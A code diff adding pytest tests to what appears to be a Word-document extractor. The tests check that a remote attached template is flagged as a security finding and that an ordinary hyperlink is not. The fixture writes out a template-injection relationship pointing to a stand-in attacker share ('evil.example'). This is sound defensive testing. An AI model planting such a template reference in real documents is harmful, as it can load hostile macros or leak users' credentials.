@@ -3,12 +3,15 @@ call or the content of an entity's target."""
 
 from __future__ import annotations
 
+import io
 import os
+import zipfile
 import socket
 import sys
 import time
 from pathlib import Path
 
+import docx
 import hostile
 import pytest
 
@@ -273,3 +276,43 @@ def test_understanding_a_huge_document_stays_in_budget(tmp_path):
     assert time.perf_counter() - started < 1.5
     assert doc.problem_codes == ("timeout",)
     assert len(doc.text_blocks) == 20_000 and doc.fields == () and doc.signature_rows == ()
+
+
+def _with_settings_rels(tmp_path, rels: str, name: str):
+    """A Word document whose settings part has ``rels`` (as Word writes an attached template)."""
+    source = io.BytesIO()
+    d = docx.Document()
+    d.add_paragraph("项目名称：ERP运维外包项目")
+    d.save(source)
+    out = tmp_path / name
+    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info, zin.read(info.filename))
+        zout.writestr("word/_rels/settings.xml.rels", rels)
+    return out
+
+
+_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+)
+
+
+def test_a_template_on_a_network_share_is_a_security_finding_and_the_file_is_still_read(tmp_path):
+    template = (
+        '<Relationship Id="rId1" TargetMode="External" Target="file://///evil.example/share/t.dotm" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    )
+    doc = extract(_with_settings_rels(tmp_path, _RELS.format(template), "a.docx"), strict=True)
+    assert doc.problem_codes == ("external-link",)
+    assert doc.problems[0].family == "security" and "evil.example" in doc.problems[0].message
+    assert doc.field("项目名称").value == "ERP运维外包项目"
+
+
+def test_an_external_hyperlink_is_not_reported(tmp_path):
+    link = (
+        '<Relationship Id="rId9" TargetMode="External" Target="https://example.com/" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+    )
+    doc = extract(_with_settings_rels(tmp_path, _RELS.format(link), "b.docx"), strict=True)
+    assert doc.ok
